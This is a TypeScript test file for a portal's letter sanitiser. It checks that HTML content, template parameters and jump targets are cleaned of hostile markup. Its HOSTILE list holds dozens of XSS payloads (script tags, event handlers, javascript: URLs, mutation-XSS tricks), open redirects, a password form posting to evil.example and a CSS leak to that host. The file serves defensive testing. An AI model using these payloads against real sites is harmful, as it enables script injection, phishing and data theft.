import { JSDOM } from 'jsdom';
import { isPortalPath } from 'contract/messages/letterTexts';
import { sanitizeTexts, findParamNames, renderLetter, sanitizeContent } from './content';

// Parses the HTML of a letter as a browser does.
function parsed(html: string) {
  return new JSDOM(`<!doctype html><body><div id="letter">${html}</div>`).window.document;
}

const ALLOWED = 'P,BR,HR,H3,H4,STRONG,B,EM,I,U,S,UL,OL,LI,BLOCKQUOTE,CODE,PRE,A'.split(',');

function dangersIn(html: string): string[] {
  const document = parsed(html);
  // Includes elements outside of #letter: the content must not close that element and continue behind it.
  const elements = [...document.querySelectorAll('head > *, body > :not(#letter), #letter *')];
  return elements.flatMap((element) => [
    ...(ALLOWED.includes(element.tagName) ? [] : [element.tagName]),
    ...[...element.attributes].flatMap(({ name, value }) => {
      if (element.tagName === 'A' && ['target', 'rel'].includes(name)) return [];
      const isLink = element.tagName === 'A' && name === 'href' && (/^https?:\/\//i.test(value) || isPortalPath(value));
      return isLink ? [] : [`${element.tagName} ${name}=${value}`];
    }),
  ]);
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<p onclick="alert(1)" style="position:fixed;inset:0" id=root class=ant-btn data-x=1>覆盖</p>',
  '<a href="javascript:alert(1)">点</a>',
  '<a href=" \u0001java\tscript:alert(1)">点</a>',
  '<a href="&#106;avascript&colon;alert(1)">点</a>',
  '<a href="&#0000106avascript:alert(1)">点</a>',
  '<a href="data:text/html,<script>alert(1)</script>">点</a>',
  '<a href="vbscript:msgbox(1)">点</a>',
  '<a href="//evil.example">点</a>',
  '<a href="/\\evil.example">点</a>',
  '<a href="/%09/evil.example" onmouseover=alert(1)>点</a>',
  '<a href="/.//evil.example">点</a>',
  '<a href="https:evil.example">点</a>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>点</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/a.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input name=password><button>登录</button></form>',
  '<style>body{background:url(https://evil.example/?leak)}</style>',
  '<p><![CDATA[<img src=x onerror=alert(1)>]]></p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p title="--><img src=x onerror=alert(1)>">x</p>',
  '</div></body><script>alert(1)</script>',
  '<b'.repeat(200) + '>',
  '<b>'.repeat(500) + '<img src=x onerror=alert(1)>' + '</b>'.repeat(500),
  '\u0000<scr\u0000ipt>alert(1)</script>',
];

describe('[MSG-01] hostile content', () => {
  it.each(HOSTILE)('%s comes to nothing', (hostile) => {
    for (const written of [hostile, `<p>前</p>${hostile}<p>后</p>`, `<ul><li>${hostile}</li></ul>`]) {
      const once = sanitizeContent(written);
      expect(dangersIn(once)).toEqual([]);
      // The server sanitises content again when a letter is read: the second pass must neither change the content nor
      // reactivate anything.
      expect(sanitizeContent(once)).toBe(once);
    }
  });

  it.each(HOSTILE)('%s as the value of a param comes to text', (hostile) => {
    const template = {
      title: '通知 {内容}',
      content: '<p>{内容}</p><a href="https://portal.example/?q={内容}">查看</a>',
    };
    const { content } = renderLetter({ ...template, jumpTarget: null }, { 内容: hostile.slice(0, 200) });
    expect(dangersIn(content)).toEqual([]);
  });

  it('is what the check of these tests finds', () => {
    for (const hostile of ['<img src=x>', '<p onclick=x>', '<a href="javascript:x">', '</div><script></script>']) {
      expect(dangersIn(hostile)).not.toEqual([]);
    }
  });
});

describe('[MSG-01] the content of a letter', () => {
  it('keeps paragraphs, headings, lists, emphasis and links', () => {
    const html = '<h3>标题</h3><p>一<strong>二</strong><br /><em>三</em></p><ul><li>四</li></ul>';
    expect(sanitizeContent(html)).toBe(html);
    expect(sanitizeContent('<a href="/system/user?pageNum=2">用户</a>')).toBe(
      '<a href="/system/user?pageNum=2">用户</a>',
    );
    expect(sanitizeContent('<a href="https://example.com/a?b=1&c=2" target=_top>外</a>')).toBe(
      '<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">外</a>',
    );
  });

  it('keeps the lines of plain text, and its signs', () => {
    expect(sanitizeContent('第一行\n第二行\n\n1 < 2 & 3 > 2')).toBe(
      '<p>第一行<br />第二行</p><p>1 &lt; 2 &amp; 3 &gt; 2</p>',
    );
    const once = sanitizeContent('<font color=red>A &amp; B</font>');
    expect(once).toBe('<p>A &amp; B</p>');
    expect(sanitizeContent(once)).toBe(once);
  });

  it('has to have something left', () => {
    const texts = { title: '空', jumpTarget: null };
    expect(() => sanitizeTexts({ ...texts, content: '<script>alert(1)</script>' })).toThrow(
      '正文去除不允许的内容后为空',
    );
    expect(() => sanitizeTexts({ ...texts, content: '<p> <br></p>' })).toThrow('正文去除不允许的内容后为空');
  });

  it('names its params, each once, in the order in which they come', () => {
    const template = {
      title: '{月份}账单',
      content: '<p>{客户} {月份} {a-b} {} {1x}</p>',
      jumpTarget: '/bill/{bill_id}',
    };
    expect(findParamNames(template)).toEqual(['月份', '客户', 'bill_id']);
    const many = Array.from({ length: 21 }, (_, index) => `{p${String(index)}}`).join('');
    expect(() => sanitizeTexts({ title: '多', content: many, jumpTarget: null })).toThrow('最多 20 个参数');
  });

  it('has its params filled in, once and as text', () => {
    const template = { title: '{a}，{b}', content: '<p>{a} {b} {c}</p>', jumpTarget: '/bill/{a}?of={b}' };
    expect(renderLetter(template, { a: '<b>{b}</b>', b: '../x' })).toEqual({
      title: '<b>{b}</b>，../x',
      content: '<p>&lt;b&gt;{b}&lt;/b&gt; ../x {c}</p>',
      jumpTarget: '/bill/%3Cb%3E%7Bb%7D%3C%2Fb%3E?of=..%2Fx',
    });
  });

  it('grows to no end', () => {
    const template = { title: '长', content: `<p>${'{a}'.repeat(2000)}</p>`, jumpTarget: null };
    expect(() => renderLetter(template, { a: 'x'.repeat(200) })).toThrow('填入参数后内容过长');
  });
});

it.each<[path: string, isPath: boolean]>([
  ['/', true],
  ['/system/user?pageNum=2#top', true],
  ['/bill/{编号}', true],
  ['', false],
  ['system/user', false],
  ['//evil.example', false],
  ['/\\evil.example', false],
  ['/.//evil.example', false],
  ['/\t/evil.example', false],
  ['/a\u0000b', false],
  ['https://evil.example', false],
  ['javascript:alert(1)', false],
])('[MSG-02] a jump target stays in the portal: %j %j', (path, isPath) => {
  expect(isPortalPath(path)).toBe(isPath);
});
